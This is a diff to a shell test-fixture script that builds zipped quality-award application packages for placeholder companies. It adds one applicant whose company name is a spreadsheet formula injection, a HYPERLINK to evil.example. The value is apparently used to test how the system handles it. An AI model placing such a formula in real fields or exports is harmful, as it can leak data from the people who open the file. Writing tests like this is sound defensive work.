@@ -66,6 +66,7 @@ M_SCOPE1=运用先进质量管理理念、方法、工具促进高质量发展�
 M_SCOPE2=中小企业专业化、特色化、精细化、新颖化的典型经验
 M_A=安徽某某科技有限公司
 M_S=上海某某电子有限公司
+M_F='=HYPERLINK("http://evil.example/x?a=1&b=<2>")有限公司'
 
 batch_form() { # OUT APPLICANT SCOPE
   "$QB_BIN/mkzip" --docx "$1" "2024年质量标杆申报书" "|申报单位|$2" "|统一社会信用代码|91110000100000000X" \
@@ -97,6 +98,10 @@ batch_morning() { # DIR
   "$QB_BIN/mkzip" "$1/$M_A.zip" 申报书.docx=@parts/m-a.docx 典型经验材料.docx=@parts/compliant-direct.docx \
     证明材料/目录.docx=@parts/proof.docx
   "$QB_BIN/mkzip" "$1/$M_S.zip" 申报书.docx=@parts/m-s.docx 典型经验材料.docx=@parts/over-abstract.docx \
+    证明材料/目录.docx=@parts/proof.docx
+  # a form value that a spreadsheet would run as a formula: shown as written, never run
+  batch_form parts/m-f.docx "$M_F" "$M_SCOPE2"
+  "$QB_BIN/mkzip" "$1/某某公式有限公司.zip" 申报书.docx=@parts/m-f.docx 典型经验材料.docx=@parts/compliant-direct.docx \
     证明材料/目录.docx=@parts/proof.docx
   # one of each reader's damage: libzip, libarchive (RAR5, 7z), unar (RAR4 solid); each
   # its own applicant, the form intact in the part that came
